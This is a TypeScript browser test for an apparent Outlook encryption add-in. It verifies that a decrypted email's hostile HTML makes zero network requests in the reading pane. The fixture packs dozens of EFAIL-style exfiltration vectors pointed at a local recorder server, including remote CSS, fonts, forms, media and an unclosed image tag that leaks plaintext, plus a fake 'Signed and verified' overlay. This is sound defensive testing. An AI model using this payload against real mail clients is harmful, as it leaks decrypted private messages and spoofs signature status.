/**
 * No EFAIL channel in Outlook's own reading pane: a decrypted letter full of remote images, stylesheets,
 * fonts, forms, media, frames and links, shown the way Outlook shows what the handler returns (live, not
 * sandboxed), makes zero requests. They are counted by a server on another local origin (a sandboxed or
 * shadow-rooted document's requests do not all reach Playwright's page listener). A positive control proves
 * the reading view would have fetched them.
 */
import { test } from "@jest/globals";
import assert from "node:assert/strict";
import { openItem, ownFormat, readingView, startRecorder, type Recorder } from "./helpers";
import { SimulatorPage } from "../pages/simulator";
import { browserSuite } from "../../helpers/suite";
import { draftFromAlice, protectDraft } from "../../helpers/protect";
import { withoutInertParseReports } from "../../helpers/page-errors";

const env = browserSuite({
  identities: {
    alice: ["alice", "alice@clinic.example"],
    bob: ["bob", "bob@lab.example"],
  },
  extra: async () => (rec = await startRecorder()),
});
let rec: Recorder;

function hostileHtml(R: string): string {
  const host = R.replace(/^http:/, "");
  return `<html><head>
<link rel="stylesheet" href="${R}/link.css">
<style>@import url("${R}/import.css"); @font-face { font-family: Leak; src: url(${R}/font.woff); }
body { background: url(${R}/body-bg.png); } p.x { background-image: image-set("${R}/set.png" 1x); } li { list-style-image: url('${R}/list.png'); }</style>
<base href="${R}/base/">
<meta http-equiv="refresh" content="0;url=${R}/refresh">
</head><body background="${R}/body-attr.png">
<p class="x">Patient 4711, Befund: unauffällig.</p>
<img src="${R}/img.png?q=secret">
<img src="${host}/protocol-relative.png">
<img src="relative.png">
<img srcset="${R}/srcset.png 1x" alt="srcset">
<picture><source srcset="${R}/picture.png"><img src="${R}/picture-img.png"></picture>
<div style="background:url(${R}/inline.png)">inline style</div>
<div style="background-image:url(&quot;${R}/entity.png&quot;)">entity</div>
<div style="b\\61 ckground: u\\72 l(${R}/escape.png)">escape</div>
<div style="position:fixed;top:0;left:0;z-index:9999;background:#fff">Signed and verified ✓</div>
<table background="${R}/table.png"><tr><td background="${R}/td.png">cell</td></tr></table>
<ul><li>item</li></ul>
<form action="${R}/form" method="post"><input type="image" src="${R}/input.png"><input name="q" value="secret"><button formaction="${R}/button">Go</button></form>
<video poster="${R}/poster.png" src="${R}/video.mp4"><source src="${R}/source.mp4"></video>
<audio src="${R}/audio.mp3" autoplay></audio>
<object data="${R}/object.svg"></object><embed src="${R}/embed.svg">
<iframe src="${R}/frame.html"></iframe>
<svg><image href="${R}/svg.png"/><image xlink:href="${R}/svg-xlink.png"/></svg>
<math><mi xlink:href="${R}/math">x</mi></math>
<a href="${R}/click?secret=4711">click here</a>
<img src="${R}/efail.png?data=
</body></html>`;
}

test("a decrypted letter with remote images, CSS, fonts and a form makes zero requests in Outlook's reading pane", async () => {
  const draft = draftFromAlice({
    subject: "Befund",
    messageId: "efail-1@clinic.example",
    html: hostileHtml(rec.url),
  });
  const cms = await protectDraft(draft, env.ids.alice, [env.ids.bob], { cipher: "aes-256-cbc" });
  const s = await SimulatorPage.open(env, { identities: [env.ids.bob] });
  const r = await openItem(s.page, ownFormat(cms));
  assert.equal(r?.allowEvent, true, String(r?.errorMessage));
  const html = r.emailBody!.content;

  // What Outlook receives: the text survives; no element or style can name a resource.
  assert.match(html, /Patient 4711, Befund: unauffällig\./);
  assert.match(html, /click here \[http:\/\/127\.0\.0\.1:\d+\/click\?secret=4711\]/, "the link is inert text showing its address");
  const tags = html.match(/<[^>]*>/g) ?? [];
  assert.deepEqual(tags.filter((t) => /127\.0\.0\.1|src=|href=|url\(|@import|srcset|background=|action=|poster=|data=/i.test(t)), []);
  assert.doesNotMatch(html, /<(style|link|base|meta|form|input|button|video|audio|source|object|embed|iframe|svg|math|picture|script)\b/i);
  assert.doesNotMatch(html, /position|z-index/i, "nothing positioned over Outlook's own chrome");
  assert.doesNotMatch(html, /verified ✓<\/div>.*position/);

  // Rendered live the way Outlook does it; give any load time to start.
  await s.page.waitForTimeout(1500);
  assert.match((await readingView(s.page)).text, /Patient 4711/);
  assert.deepEqual(rec.requests, [], "no request reached the other origin");

  // Positive control: the same reading view does fetch a remote image that reaches it.
  await s.page.evaluate((u) => {
    const root = document.getElementById("sim-decrypted-body")!.shadowRoot!;
    const img = document.createElement("img");
    img.src = `${u}/control.png`;
    root.append(img);
  }, rec.url);
  await s.page.waitForFunction(() => {
    const img = document.getElementById("sim-decrypted-body")!.shadowRoot!.querySelector<HTMLImageElement>("img[src$='control.png']");
    return img?.complete === true;
  });
  assert.deepEqual(rec.requests, ["GET /control.png"]);
  // Only the reports of the sanitizer's inert parse (nothing loaded or ran), and nothing else.
  assert.deepEqual(withoutInertParseReports(s.errors), []);
  await s.close();
});
